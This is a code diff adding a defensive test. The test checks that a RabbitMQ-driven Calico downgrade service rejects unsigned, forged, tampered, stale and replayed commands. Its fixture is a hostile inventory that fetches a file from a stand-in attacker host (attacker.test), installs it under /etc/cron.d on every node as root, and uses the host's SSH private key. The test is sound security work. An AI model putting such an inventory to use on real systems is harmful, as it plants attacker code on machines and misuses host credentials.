@@ -153,6 +153,73 @@ public sealed class RabbitMqDowngradeTests
         Assert.DoesNotContain(observer.Of<DowngradeStarted>(), e => e.InstanceId == second);
     }
 
+    [Fact]
+    public async Task Unsigned_forged_stale_or_replayed_commands_over_RabbitMq_are_rejected_and_start_nothing()
+    {
+        await using var broker = await Broker.StartAsync();
+        await using var observer = await BusObserver.StartAsync(broker);
+        using var hosts = new BusHosts(broker);
+        hosts.Serve(runNodes: true);
+        var ids = Enumerable.Range(0, 7).Select(_ => Guid.NewGuid().ToString("N")).ToArray();
+        var now = DateTimeOffset.UtcNow;
+
+        // The attack: anyone who can publish to saga-commands asks for root on every node, with a calicoctl of their own.
+        await observer.SendAsIsAsync(new StartDowngrade(ids[0], CronInventory, Name: "unsigned"));
+        await observer.SendAsIsAsync(CommandSignature.Sign(new StartDowngrade(ids[1], CronInventory), Broker.CommandKeyId, "a-key-the-hosts-do-not-hold-0123456789", now));
+        await observer.SendAsIsAsync(CommandSignature.Sign(new StartDowngrade(ids[2], CronInventory), "someone-else", Broker.CommandKey, now));
+        var signed = CommandSignature.Sign(new StartDowngrade(ids[3], "nodes: []"), Broker.CommandKeyId, Broker.CommandKey, now);
+        await observer.SendAsIsAsync(signed with { Inventory = CronInventory }); // the key's holder signed something else
+        await observer.SendAsIsAsync(CommandSignature.Sign(new CancelDowngrade(ids[4]), Broker.CommandKeyId, Broker.CommandKey, now.AddMinutes(-6)));
+        var once = CommandSignature.Sign(new ResumeDowngrade(ids[5]), Broker.CommandKeyId, Broker.CommandKey, now);
+        await observer.SendAsIsAsync(once);
+        await observer.WaitForAsync<CommandRejected>(e => e.InstanceId == ids[5]);
+        await observer.SendAsIsAsync(once); // the same message again, as someone who recorded it would
+        // Signed by a key holder, but the inventory breaks the host's rules for inventories from the bus.
+        await observer.SendAsync(new StartDowngrade(ids[6], CronInventory, Name: "cron"));
+
+        Assert.Contains("it is not signed", (await Rejected(ids[0])).Reason, StringComparison.Ordinal);
+        Assert.Contains("its signature does not match key 'tests'", (await Rejected(ids[1])).Reason, StringComparison.Ordinal);
+        Assert.Contains("this host holds no command key 'someone-else'", (await Rejected(ids[2])).Reason, StringComparison.Ordinal);
+        Assert.Contains("its signature does not match key 'tests'", (await Rejected(ids[3])).Reason, StringComparison.Ordinal);
+        Assert.Contains("more than 5 minutes from this host's clock", (await Rejected(ids[4])).Reason, StringComparison.Ordinal);
+        await observer.WaitForAsync<CommandRejected>(e => e.InstanceId == ids[5] && e.Reason.Contains("nonce was used before", StringComparison.Ordinal));
+        var rules = (await Rejected(ids[6])).Reason;
+        Assert.Contains("calicoctl.installPath /etc/cron.d/x is not one this host allows", rules, StringComparison.Ordinal);
+        Assert.Contains("calicoctl.source http://attacker.test/x is plain http", rules, StringComparison.Ordinal);
+        Assert.Contains("ssh.privateKeyFile /etc/ssh/ssh_host_ed25519_key is not in a folder this host allows keys from", rules, StringComparison.Ordinal);
+        Assert.Empty(observer.Of<DowngradeStarted>());
+        Assert.Equal(0, await hosts.Workspace.CountInstancesAsync()); // no refused command created an instance
+        Assert.Matches(@"WRN .*refused: .?it is not signed.*key id .?\(none\).?, from .?rabbitmq://127\.0\.0\.1", hosts.Workspace.Log()); // who tried, where from
+
+        Task<CommandRejected> Rejected(string id) => observer.WaitForAsync<CommandRejected>(e => e.InstanceId == id);
+    }
+
+    /// <summary>An inventory that installs the sender's file as a cron job on every node, with the host's own SSH key.</summary>
+    private const string CronInventory = """
+        os: auto
+        from: "3.1"
+        to: "2.6"
+        ssh:
+          user: root
+          privateKeyFile: /etc/ssh/ssh_host_ed25519_key
+          knownHostsFile: /etc/ssh/ssh_known_hosts
+        calicoctl:
+          source: http://attacker.test/x
+          sha256: 0000000000000000000000000000000000000000000000000000000000000000
+          installPath: /etc/cron.d/x
+          nodes: all
+        etcd:
+          runOn: ctl-1
+          v2:
+            endpoints: [http://10.0.0.5:2379]
+          v3:
+            endpoints: [http://10.0.0.5:2379]
+        nodes:
+          - name: ctl-1
+            host: 10.0.0.11
+            role: control
+        """;
+
     private static async Task KillAWorkerMidNodeAsync(IReadOnlyDictionary<string, string>? store)
     {
         await using var lab = await Lab.StartAsync(3, "ctl:centos7:control", "c1:centos7:compute", "c2:xenial:compute");
